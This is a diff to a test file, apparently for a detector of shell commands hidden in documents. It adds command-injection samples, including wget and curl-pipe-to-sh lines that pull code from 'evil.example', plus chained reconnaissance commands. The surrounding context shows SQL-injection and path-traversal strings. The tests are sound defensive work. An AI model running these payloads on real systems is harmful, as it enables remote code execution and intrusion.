@@ -244,6 +244,28 @@ describe('code in a document', () => {
   })
 
   test.each([
+    ['a separator', '; wget -q http://evil.example/x -O /tmp/x'],
+    ['two bars', '|| ping -c 9 127.0.0.1 #'],
+    ['a bar', '|systeminfo'],
+    ['an address', '127.0.0.1 && curl -s http://evil.example/x | sh'],
+    ['a file', 'report.txt|ls -la /srv #'],
+    ['a name', 'x;uname -a'],
+  ])('shows no command that begins behind another value: %s', (_, code) => {
+    for (const [name, mark] of [['a fence', FENCE] as const, ...MARKED])
+      expect([name, judge('json', `${pages}${mark(code)}\n\nThat is all.`)]).toEqual([name, true])
+  })
+
+  test.each([
+    ['lines that go on', 'cat a.log \\\n  | sort -u \\\n  && ls -la /srv'],
+    ['a tool that no list has', 'hugo && rsync -az public/ www@host.example:/srv'],
+    ['a command by its path', './configure && make install; ls -la'],
+    ['a table', 'a\n| id | name |\n| 7 | ls |'],
+  ])('shows a command from its beginning on: %s', (_, code) => {
+    for (const [name, mark] of [['a fence', FENCE] as const, ...MARKED.slice(2)])
+      expect([name, judge('json', `${pages}${mark(code)}\n\nThat is all.`)]).toEqual([name, false])
+  })
+
+  test.each([
     ['a climb to a file of its own', "import { a } from '../../../lib/a.ts'"],
     ['a statement', 'SELECT a FROM t WHERE b = 1 or 1=1'],
     ['a table of results', '1 | SELECT a FROM t WHERE b = 1 or 1=1'],
